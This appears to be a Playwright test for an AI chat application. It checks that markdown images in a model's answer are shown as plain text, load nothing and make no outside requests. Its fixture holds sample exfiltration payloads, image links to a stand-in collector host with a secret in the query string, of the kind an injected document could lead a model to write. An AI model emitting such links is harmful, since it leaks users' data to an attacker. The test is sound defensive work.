import { startFakeModelServer } from '../packages/server/src/testing/fake-model-server.ts';
import { test as base, expect } from './support/docent-test.ts';
import { type Docent, startDocent } from './support/start-docent.ts';

/** What a document could make a model write, to carry a secret away when the answer is shown or clicked on. */
const answer = [
  'Here it is. ![The lighthouse](https://collector.example/p.png?secret=harbour) ',
  '[![Map](https://collector.example/m.png?secret=harbour)](https://maps.example/harbour) ',
  '![][x] and [the guide](https://guide.example/a).\n\n[x]: https://collector.example/x.png?secret=harbour\n',
];

const test = base.extend<object, { docent: Docent }>({
  docent: [
    // biome-ignore lint/correctness/noEmptyPattern: Playwright wants an object of the fixtures that are used.
    async ({}, use) => {
      const model = await startFakeModelServer({ turns: [{ does: 'answer', words: answer }] });
      const docent = await startDocent({ MODEL_URL: model.baseUrl, MODEL_NAME: 'painter' });
      await use(docent);
      await docent.dispose();
      await model.close();
    },
    { scope: 'worker', timeout: 150_000 },
  ],
});

test('a picture in an answer is shown as text with its host, loads nothing and is no link', async ({
  workspace: page,
  docent,
  session,
}) => {
  const outside: string[] = [];
  page.on('request', (request) => {
    if (new URL(request.url()).origin !== new URL(docent.url).origin) outside.push(request.url());
  });
  const uid = await session.addFile('light.txt', 'The lighthouse of the harbour was built in 1883.');
  const created = await session.call('POST', '/conversations', { kind: 'chat', fileUids: [uid] });
  await page.goto(`${docent.url}/chat/${Reflect.get(Object(created), 'uid')}`);
  const composer = page.getByLabel('Your question');
  await composer.fill('Show me the lighthouse.');
  await composer.press('Enter');
  const shown = page.getByRole('article', { name: 'Answer' });
  await expect(shown).toContainText('The lighthouse (collector.example)');
  await expect(shown).toContainText('Image (collector.example)');
  await expect(page.getByRole('button', { name: 'Copy answer' })).toBeVisible();
  await expect(shown.locator('img')).toHaveCount(0);
  const links = shown.getByRole('link');
  expect(await links.evaluateAll((all) => all.map((link) => link.getAttribute('href')))).toEqual([
    'https://maps.example/harbour',
    'https://guide.example/a',
  ]);
  expect(outside.filter((url) => url.startsWith('http'))).toEqual([]);
});
